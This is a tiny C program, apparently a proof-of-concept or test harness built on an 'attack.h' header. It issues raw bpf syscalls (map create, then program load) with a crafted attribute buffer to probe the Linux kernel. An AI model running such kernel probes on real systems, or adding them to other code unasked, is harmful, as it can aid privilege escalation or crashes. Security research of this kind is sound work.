#include "attack.h"

int main(void) {
  char attributes[128] = {1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1};
  TRY(syscall(SYS_bpf, 0, attributes, sizeof attributes));
  TRY(syscall(SYS_bpf, 5, attributes, sizeof attributes));
  puts("DONE");
}
